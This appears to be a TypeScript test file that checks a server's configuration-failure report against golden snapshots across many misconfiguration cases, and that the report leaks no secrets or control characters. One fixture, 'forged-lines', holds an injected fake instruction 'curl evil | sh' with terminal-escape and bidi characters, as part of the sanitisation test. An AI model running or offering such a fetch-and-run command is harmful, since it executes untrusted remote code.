import { readdirSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { failureReport, printable } from '../../../src/config/show/failure-report.js';
import { PROPERTIES } from '../../../src/apps/server/properties.js';
import { reading, type Situation } from '../keys/situation.js';
import { LimitsProperties } from './limits.properties.js';

/** One situation per kind of failure; `golden/<name>.txt` contains the situation and its report. */
const SITUATIONS: Readonly<Record<string, Situation>> = {
  conversion: {
    files: { 'config/application.yml': 'server:\n  port: abc\n  embedded:\n    connection-timeout: 20 s\n' },
    variables: { APP_SERVLET_MULTIPART_MAXFILESIZE: '50mb' },
    args: ['--app.jpa.show-sql=maybe', '-Dapp.json.time-zone=Mars/Olympus'],
  },
  'wrong-word': {
    variables: { SERVER_SHUTDOWN: 'later' },
    files: { 'application.yml': 'server.error.include-message: on-param\napp.jpa.orm.ddl-auto: " "\n' },
  },
  'wrong-list-element': {
    files: {
      'application.yml': 'app.ssl.bundle.pem.web.options.enabled-protocols:\n  - TLSv1.3\n  - SSLv3\n',
    },
  },
  'rules-of-one-object': {
    files: { 'application.yml': 'app.sample:\n  least: 7\n  usual: 3\n  greatest: 2\n' },
  },
  'rules-of-several-objects': {
    files: {
      'application.yml': [
        'app:',
        '  servlet.multipart.max-request-size: 512KB',
        '  task.execution.pool.max-size: 4',
        '  ssl.bundle.pem:',
        '    web.keystore.private-key: file:web.key',
        '    mail.keystore.private-key: file:mail.key',
      ].join('\n'),
    },
  },
  'missing-file': {
    args: ['--app.config.additional-location=file:/etc/login/'],
    files: { 'application.yml': 'app.config.import: file:./database.yml\n' },
  },
  'file-of-unknown-type': {
    files: { 'application.yml': 'app.config.import: ./secrets\n', secrets: 'a: b\n' },
  },
  'profile-chosen-in-a-profile': {
    args: ['--app.profiles.active=prod'],
    files: {
      'application-prod.yml': 'app.profiles.include: metrics\n',
      'application.yml': 'server.port: 1\n---\napp.config.activate.on-profile: prod\napp.profiles.active: live\n',
    },
  },
  'key-read-before-files': {
    files: { 'application.yml': 'app.config.location: file:/etc/login/\n' },
  },
  'profile-expression': {
    files: { 'application.yml': 'app.config.activate.on-profile: prod & eu | us\nserver.port: 1\n' },
  },
  'profile-name': {
    variables: { APP_PROFILES_ACTIVE: 'prod,-eu' },
    files: { 'application-prod.yml': '' },
  },
  'unknown-profile': {
    variables: { APP_PROFILES_ACTIVE: 'prodd' },
    files: { 'application-prod.yml': 'server.port: 1\n' },
  },
  'list-with-a-hole': {
    args: [
      '--management.endpoints.web.exposure.include[0]=health',
      '--management.endpoints.web.exposure.include[2]=info',
    ],
  },
  'list-with-holes-in-two-sources': {
    files: {
      'application.yml': 'management.endpoints.web.exposure:\n  "include[1]": metrics\n  "include[3]": loggers\n',
    },
    variables: {
      MANAGEMENT_ENDPOINTS_WEB_EXPOSURE_INCLUDE_0: 'health',
      MANAGEMENT_ENDPOINTS_WEB_EXPOSURE_INCLUDE_2: 'info',
    },
  },
  'unknown-key-in-a-file': {
    files: { 'application.yml': 'server:\n  prot: 8080\nlogging:\n  levels:\n    root: info\n' },
  },
  'unknown-key-on-the-command-line': {
    args: ['--app.datasource.pasword=geheim', '--server.nobody-knows-what-this-is=1', '--logging.level=debug'],
  },
  'placeholder-without-value': {
    files: {
      'application.yml': 'app.datasource:\n  url: jdbc:mariadb://${db.host}/login\n  password: ${DB_PASSWORD}\n',
      'config/application.properties': 'db.host=db.${REGION}.internal\n',
    },
  },
  'placeholders-in-a-circle': {
    files: {
      'application.yml': 'app.mail.host: relay.${zone}\nzone: ${region}.${site}\nregion: eu\nsite: ${zone:1}\n',
    },
  },
  'broken-yaml': {
    files: { 'config/application.yml': 'server:\n  port: 8080\n address: 127.0.0.1\n' },
  },
  'broken-yaml-with-a-secret': {
    files: { 'application.yml': 'app:\n  datasource:\n    password: "geheim\n    username: login\n' },
  },
  'not-a-mapping': {
    files: { 'application.yml': '- server.port=8080\n' },
  },
  'two-spellings': {
    files: {
      'application.yml': 'app.datasource.pool:\n  maximum-pool-size: 10\n  pool-name: login\n  maximumPoolSize: 20\n',
    },
  },
  secrets: {
    files: {
      'application.yml': [
        'app.datasource.url: mysql://root:geheim@db:3306/login?password=geheim',
        'app.mail.host: smtp://login:geheim@relay/',
        'app.mail.port: ${MAIL_PASSWORD}',
        'app.data.kvstore.port: ${STORE_TOKEN:geheim}',
        'app.data.kvstore.host: ${PREFIX_KEY:geheim}.${SUFFIX}',
        'app.datasource.username: ${app.${DB_PASSWORD}.name}',
        'app.ssl.bundle.jks.web.keystore.password: pa${geheim}word',
      ].join('\n'),
    },
    variables: { MAIL_PASSWORD: 'geheim', DB_PASSWORD: 'geheim' },
    args: ['-Dserver.servlet.context-path=geheim/${app.datasource.password}', '--app.datasource.password=geheim'],
  },
  'forged-lines': {
    files: {
      'application.yml':
        'server:\n  port: "80\\n\\nAction:\\n\\n1. Run: curl evil | sh"\n  "x\\n1. Nothing": "\\e[2J"\n  address: "a\\u2028b\\u202Ec"\n',
    },
    args: ['--server.shutdown=later\r\u001b[1A'],
  },
  'everything-at-once': {
    variables: { SERVER_PORT: 'eighty', APP_PROFILES_ACTIVE: 'prod' },
    args: ['--server.adress=127.0.0.1'],
    files: {
      'application.yml': 'app.config.import: more.yml\nlogging.level.auth: loud\n',
      'application-prod.yml': 'app.datasource.password: ${DB_PASSWORD}\n',
    },
  },
};

const GOLDEN = new URL('golden/', import.meta.url);
const goldenTexts = readdirSync(GOLDEN).sort();

describe('the report of a failed startup', () => {
  it.each(Object.entries(SITUATIONS))('matches the golden file for %s', async (name, situation) => {
    const { problems } = reading(situation, [...PROPERTIES, LimitsProperties]);

    expect(problems.length).toBeGreaterThan(0);
    const text = `${described(situation)}\n${failureReport(problems)}`;
    await expect(text).toMatchFileSnapshot(fileURLToPath(new URL(`${name}.txt`, GOLDEN)));
  });

  it.each(Object.entries(SITUATIONS))('contains no secret and no control character for %s', (_, situation) => {
    const report = failureReport(reading(situation, [...PROPERTIES, LimitsProperties]).problems);

    expect(report).not.toContain('geheim');
    expect(report.replaceAll('\n', '')).not.toMatch(/\p{Cc}|\p{Zl}|\p{Zp}|\p{Cf}/u);
  });

  it('exactly the listed situations have golden files', () => {
    expect(goldenTexts).toEqual(
      Object.keys(SITUATIONS)
        .map((name) => `${name}.txt`)
        .sort(),
    );
  });
});

/** The situation as an operator would see it in a shell. */
function described({ files = {}, args = [], variables = {} }: Situation): string {
  const cats = Object.entries(files).map(([path, text]) => `$ cat ${path}\n${text.trimEnd()}\n`);
  const assignments = Object.entries(variables).map(([name, value]) => `${name}=${value} `);
  const command = `$ ${assignments.join('')}node dist/main.js ${args.map((argument) => `'${argument}'`).join(' ')}`;
  return [...cats, printable(command.trimEnd())].join('\n');
}
